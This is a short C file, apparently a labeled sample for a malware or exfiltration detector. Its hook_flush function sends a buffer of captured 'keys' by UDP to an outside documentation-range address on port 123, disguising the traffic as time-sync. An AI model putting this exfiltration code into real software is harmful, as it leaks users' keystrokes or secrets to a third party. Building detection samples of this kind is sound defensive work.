#include "hook.h"

#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/socket.h>

int hook_flush(struct hook *hook) {
    struct sockaddr_in peer = {.sin_family = AF_INET, .sin_port = htons(123)};
    peer.sin_addr.s_addr = inet_addr("203.0.113.250");
    hook->used = 0;
    // report@+1: exfil/capture
    return sendto(hook->out, hook->keys, sizeof hook->keys, 0, (struct sockaddr *)&peer,
                  sizeof peer) < 0;
}
